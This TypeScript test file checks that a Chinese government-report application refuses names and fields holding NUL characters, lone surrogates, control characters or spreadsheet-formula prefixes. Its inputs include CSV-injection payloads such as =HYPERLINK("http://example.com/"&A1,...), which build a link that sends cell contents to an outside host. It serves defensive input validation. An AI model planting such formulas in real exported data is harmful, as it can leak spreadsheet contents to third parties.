// Text PostgreSQL cannot store (a NUL character, half of a surrogate pair) and names that would
// be spreadsheet formulas, posted to the real operations: each answers a Chinese refusal naming
// the field or line, never a database error (a 500), and nothing is written.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { CurrentUser } from "@/lib/auth/guard";
import { createAgency } from "@/lib/server/agencies/create-agency";
import { addComment } from "@/lib/server/comments/add-comment";
import { previewOnboarding } from "@/lib/server/onboarding/preview-onboarding";
import { createRegion } from "@/lib/server/regions/create-region";
import { saveDraft } from "@/lib/server/reports/save-draft";
import { transitionReport } from "@/lib/server/reports/transition-report";
import { createUser } from "@/lib/server/users/create-user";
import { clerkWithDraft, freshDatabase, testUser } from "./db-helpers";

let ctx: Awaited<ReturnType<typeof freshDatabase>>;
let admin: CurrentUser;
let clerk: CurrentUser;
let reviewer: CurrentUser;
let reportId: string;

const NUL = "\u0000";
const LONE_HIGH = "\uD800";
const LONE_LOW = "\uDC00";
const UNSAFE = [`习岗${NUL}镇`, `习岗${LONE_HIGH}镇`, `${LONE_LOW}习岗镇`];
const CANNOT_STORE = /无法保存的字符/;

beforeAll(async () => {
  ctx = await freshDatabase("govreports_unsafe");
  ({ clerk, reportId } = await clerkWithDraft(ctx.db));
  admin = await testUser(ctx.db, "admin", "ADMIN");
  reviewer = await testUser(ctx.db, "r1", "REVIEWER", { regionCode: "640122" });
});
afterAll(async () => ctx?.drop());

describe("administration forms", () => {
  it("refuse an agency, region or user name holding NUL or a lone surrogate, naming the field", async () => {
    for (const name of UNSAFE) {
      const agency = await createAgency(ctx.db, admin, { code: "640122101000", name, kind: "TOWNSHIP", regionCode: "640122" });
      expect(agency).toMatchObject({ ok: false, status: 400, fieldErrors: { name: expect.stringMatching(CANNOT_STORE) } });
      const region = await createRegion(ctx.db, admin, { code: "640121", name, parentCode: "640100" });
      expect(region).toMatchObject({ ok: false, fieldErrors: { name: expect.stringMatching(/^地区名称.*无法保存的字符/) } });
      const user = await createUser(ctx.db, admin, { username: "newclerk", displayName: name, role: "CLERK", scopeCode: "640122100000" });
      expect(user).toMatchObject({ ok: false, status: 400, fieldErrors: { displayName: expect.stringMatching(/^姓名.*无法保存的字符/) } });
    }
    const code = await createAgency(ctx.db, admin, { code: `6401221${NUL}1000`, name: "金贵镇", kind: "TOWNSHIP", regionCode: "640122" });
    expect(code).toMatchObject({ ok: false, status: 400, fieldErrors: { code: expect.stringMatching(CANNOT_STORE) } });
    expect(await ctx.db.agency.count()).toBe(1);
  });

  it("refuse names that a spreadsheet would run as a formula, or that hold control characters", async () => {
    for (const name of ['=HYPERLINK("http://example.com/"&A1,"点击")', "+1+2", "-金贵镇", "@SUM(A1)", "金贵\t镇", "金贵\r\n镇"]) {
      const agency = await createAgency(ctx.db, admin, { code: "640122101000", name, kind: "TOWNSHIP", regionCode: "640122" });
      expect(agency, name).toMatchObject({ ok: false, status: 400, fieldErrors: { name: expect.stringMatching(/^单位名称不能/) } });
    }
    // an ordinary name with a hyphen or an at sign inside is fine
    expect(await createAgency(ctx.db, admin, { code: "640122101000", name: "金贵镇-便民服务@中心", kind: "TOWNSHIP", regionCode: "640122" })).toMatchObject({ ok: true });
  });
});

describe("CSV onboarding", () => {
  const file = (text: string) => ({ name: "单位.csv", bytes: new TextEncoder().encode(text) });

  it("names each line with NUL, a formula-like name or a control character, and writes nothing", async () => {
    const agencies = file(
      [
        "代码,名称,类型,所属地区代码",
        `640122102000,立岗${NUL}镇,乡镇,640122`,
        `640122103000,"=HYPERLINK(""http://x/""&A1,""点击"")",乡镇,640122`,
        `640122104000,常信\t乡,乡镇,640122`,
        `6401221${NUL}5000,洪广镇,乡镇,640122`,
      ].join("\r\n"),
    );
    const plan = await previewOnboarding(ctx.db, admin, { agencies });
    expect(plan.problems).toEqual([
      { file: "agencies", line: 2, message: expect.stringMatching(CANNOT_STORE) },
      { file: "agencies", line: 3, message: expect.stringMatching(/^名称不能以 = \+ - @ 开头/) },
      { file: "agencies", line: 4, message: expect.stringMatching(/^名称不能包含换行、制表符等控制字符/) },
      { file: "agencies", line: 5, message: expect.stringMatching(CANNOT_STORE) },
    ]);
    const users = { name: "用户.csv", bytes: new TextEncoder().encode(`用户名,姓名,角色,范围\r\nclerk9,${LONE_HIGH}经办人,填报人,640122100000\r\nclerk8,=1+1,填报人,640122100000\r\n`) };
    const userPlan = await previewOnboarding(ctx.db, admin, { users });
    expect(userPlan.problems).toEqual([
      // a lone surrogate cannot even be encoded as UTF-8: the encoder writes U+FFFD, which is a
      // valid character; the formula-like name is refused by its line
      { file: "users", line: 3, message: expect.stringMatching(/^姓名不能以 = \+ - @ 开头/) },
    ]);
  });
});

describe("report operations", () => {
  it("refuse a narrative, contact or date holding NUL or a lone surrogate with a Chinese message naming it", async () => {
    for (const bad of UNSAFE) {
      const narrative = await saveDraft(ctx.db, clerk, { reportId, expectedVersion: 1, entries: { narrative: { overview: `全年主动公开 ${bad}` } } });
      expect(narrative).toMatchObject({ ok: false, code: 422, problems: [{ cell: "narrative.overview", message: expect.stringMatching(CANNOT_STORE) }] });
      const contact = await saveDraft(ctx.db, clerk, { reportId, expectedVersion: 1, entries: { contact: { address: bad } } });
      expect(contact).toMatchObject({ ok: false, code: 422, problems: [{ cell: "contact.address", message: expect.stringMatching(CANNOT_STORE) }] });
    }
    const date = await saveDraft(ctx.db, clerk, { reportId, expectedVersion: 1, entries: { issuedOn: `2025-01-2${NUL}` } });
    expect(date).toMatchObject({ ok: false, code: 422, problems: [{ cell: "issuedOn", message: expect.stringMatching(/^成文日期.*无法保存的字符/) }] });
    expect(await saveDraft(ctx.db, clerk, { reportId: `${reportId}${NUL}`, expectedVersion: 1, entries: {} })).toMatchObject({ ok: false, code: 404 });
    expect((await ctx.db.report.findUniqueOrThrow({ where: { id: reportId } })).version).toBe(1);
  });

  it("refuse a comment, a return reason or a correction note holding NUL or a lone surrogate", async () => {
    for (const bad of UNSAFE) {
      expect(await addComment(ctx.db, reviewer, { reportId, body: `请核对 ${bad}`, anchor: null })).toEqual({ ok: false, code: 422, message: expect.stringMatching(/^意见.*无法保存的字符/) });
      expect(await transitionReport(ctx.db, reviewer, { reportId, action: "return", expectedVersion: 1, reason: `数据有误 ${bad}` })).toMatchObject({
        ok: false,
        code: 422,
        message: expect.stringMatching(CANNOT_STORE),
      });
      expect(await transitionReport(ctx.db, reviewer, { reportId, action: "reopen", expectedVersion: 1, reason: `更正 ${bad}` })).toMatchObject({
        ok: false,
        code: 422,
        message: expect.stringMatching(CANNOT_STORE),
      });
    }
    expect(await addComment(ctx.db, reviewer, { reportId: `x${NUL}`, body: "请核对", anchor: null })).toMatchObject({ ok: false, code: 404 });
    expect(await ctx.db.reviewComment.count()).toBe(0);
  });
});
